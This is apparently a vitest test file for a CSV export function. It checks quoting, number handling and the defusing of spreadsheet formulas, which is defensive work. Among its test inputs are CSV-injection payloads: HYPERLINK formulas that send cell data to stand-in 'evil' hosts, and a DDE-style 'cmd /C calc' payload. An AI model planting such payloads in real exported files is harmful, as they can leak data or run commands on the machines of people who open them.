import { parse } from "csv-parse/sync";
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { csvCell, toCsv } from "./csv";
import { cellValue, isFormulaLike } from "@/tests/support/csv-formulas";

describe("CSV export", () => {
  it("quotes what needs quoting", () => {
    expect(csvCell('He said "no", twice')).toBe('"He said ""no"", twice"');
    expect(csvCell("line one\nline two")).toBe('"line one\nline two"');
    expect(csvCell(54_200_000_000n)).toBe("54200000000");
    expect(csvCell(null)).toBe("");
    expect(csvCell(new Date("2024-08-13T00:00:00Z"))).toBe("2024-08-13T00:00:00.000Z");
    expect(csvCell(new Date(Number.NaN))).toBe("");
    // Step details are JSON, not "[object Object]".
    expect(csvCell({ transition: "decideSanctions", amount: 5n })).toBe('"{""transition"":""decideSanctions"",""amount"":""5""}"');
  });

  it("defuses spreadsheet formulas", () => {
    expect(csvCell('=HYPERLINK("http://evil")')).toBe("\"'=HYPERLINK(\"\"http://evil\"\")\"");
    expect(csvCell("@SUM(A1)")).toBe("'@SUM(A1)");
    expect(csvCell("-1+1")).toBe("'-1+1");
    expect(csvCell("-Infinity")).toBe("'-Infinity");
    // Importers that trim leading blanks, and the full-width signs some spreadsheets accept.
    expect(csvCell("  =1+1")).toBe("'  =1+1");
    expect(csvCell("\n=1+1")).toBe("\"'\n=1+1\"");
    expect(csvCell("\u200b=1+1")).toBe("'\u200b=1+1");
    expect(csvCell("＝1+1")).toBe("'＝1+1");
    expect(csvCell("\tnote")).toBe("'\tnote");
  });

  it("leaves plain numbers alone, whether they arrive as numbers or as text", () => {
    expect(csvCell(-5)).toBe("-5");
    expect(csvCell(-5n)).toBe("-5");
    expect(csvCell("-1")).toBe("-1");
    expect(csvCell(-1.5e-7)).toBe("-1.5e-7");
  });

  it("defuses every item of a list, and the list as a whole (legal articles, evidence references)", () => {
    const payloads = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "@SUM(1+1)*cmd|' /C calc'!A0"];
    expect(csvCell(payloads)).toBe(`"'=HYPERLINK(""http://evil.example/?""&A1,""x"")\n'@SUM(1+1)*cmd|' /C calc'!A0"`);
    expect(csvCell(["Art. 17", "+82"])).toBe("\"Art. 17\n'+82\"");
    expect(csvCell(["", "=1"])).toBe("\"\n'=1\"");
    // A text value's own line breaks are one cell's lines: a bullet list in a body stays as typed.
    expect(csvCell("Observed:\n- item")).toBe('"Observed:\n- item"');
  });

  it("no cell of the output starts a formula, for any value", () => {
    fc.assert(
      fc.property(fc.array(cellValue, { minLength: 1, maxLength: 4 }), (values) => {
        const row = Object.fromEntries(values.map((v, i) => [`c${i}`, v]));
        const [parsed] = parse(toCsv(Object.keys(row), [row]), { columns: true }) as Record<string, string>[];
        for (const cell of Object.values(parsed ?? {})) expect(isFormulaLike(cell), JSON.stringify(cell)).toBe(false);
      }),
      { numRuns: 500 },
    );
  });

  it("round-trips any text through a real CSV parser: unchanged, or with one apostrophe in front of a formula", () => {
    fc.assert(
      fc.property(fc.array(fc.tuple(fc.string(), fc.string()), { maxLength: 20 }), (pairs) => {
        const rows = pairs.map(([a, b]) => ({ a, b }));
        const parsed = parse(toCsv(["a", "b"], rows), { columns: true }) as { a: string; b: string }[];
        const defused = (s: string) => (isFormulaLike(s) ? `'${s}` : s);
        expect(parsed).toEqual(rows.map((r) => ({ a: defused(r.a), b: defused(r.b) })));
      }),
    );
  });
});
